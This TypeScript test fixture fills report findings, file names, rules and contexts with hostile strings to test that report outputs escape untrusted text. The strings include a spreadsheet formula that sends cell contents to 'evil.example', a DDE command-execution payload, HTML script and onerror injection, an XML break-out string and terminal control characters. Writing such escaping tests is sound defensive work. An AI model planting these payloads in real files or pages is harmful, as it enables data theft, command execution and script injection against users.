import type { Finding } from '../../../engine/model/finding.ts';
import type { FileReport } from '../../../engine/model/result.ts';
import type { Context, Report, ReportContext } from '../../../src/services/report/report.ts';
import {
  citation,
  confirmed,
  estimated,
  notFound,
  readFile,
  resultOf,
} from '../../gate/unit/cli/findings.ts';
import { reportOn } from '../../support/reports.ts';

/** Texts that do harm in a format that does not escape them. */
export const hostileTexts = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\t=1+1',
  '＝1+1',
  '</script><script>alert(1)</script><img src=x onerror=alert(2)>',
  ']]></system-out><failure/><![CDATA[ & " \' <',
  '\u0000\u0007\u001b[31m\ud800 half a pair \ufffe',
  '\u202eright to left',
  '"quoted", comma, and\r\nline break',
];

const failed: FileReport = {
  ...{ name: 'scan <1>.pdf', role: 'input', fileIndex: 1 },
  ...{ status: 'failed', reason: 'encrypted', message: 'The PDF asks for a password.' },
};

/** A finding for each hostile text, which is in every field that comes from documents, rules or people. */
export function hostileFindings(): Finding[] {
  return hostileTexts.map((text, index) => {
    const source = { ...citation('x').source, name: `${text}.pdf` };
    const cited = citation(text, { source, link: `${text}.pdf#page=3` });
    const rule = { key: `${index}`.repeat(8).slice(0, 8), index, name: text, description: text };
    const common = { rule, statement: text, citations: [cited, cited], basis: [cited] };
    const review = {
      label: 'CONFIRMED',
      outcome: 'violated',
      reason: text,
      by: text,
      at: '2026-01-01T00:00:00.000Z',
    } as const;
    return index % 3 === 0
      ? confirmed({ ...common, review })
      : index % 3 === 1
        ? estimated(common)
        : notFound({ ...common, citations: [], basis: [] });
  });
}

/** A report with hostile texts everywhere, also around each quote, an unread file and a warning. */
export function hostileReport(change: Partial<ReportContext> = {}): Report {
  const result = resultOf(hostileFindings(), {
    files: [readFile, failed],
    warnings: [{ code: 'w', message: hostileTexts.join(' ') }],
    incomplete: true,
  });
  const report = reportOn(result, { name: hostileTexts[6] ?? '', ...change });
  const cited = report.findings.flatMap(({ citations, basis }) => [...citations, ...basis]);
  const contexts = cited.map((citation, at) => [citation, hostileContext(citation.quote, at)] as const);
  return { ...report, contexts: new Map(contexts) };
}

function hostileContext(text: string, at: number): Context {
  const line = [false, true, false].map((marked) => ({ text, marked }));
  return at % 2 === 0
    ? { kind: 'passage', lines: [line, line] }
    : {
        ...{ kind: 'grid', sheet: text, columns: ['A', 'B'] },
        rows: [true, false].map((isFirst, row) => ({ number: row + 1, isFirst, cells: [line, []] })),
      };
}
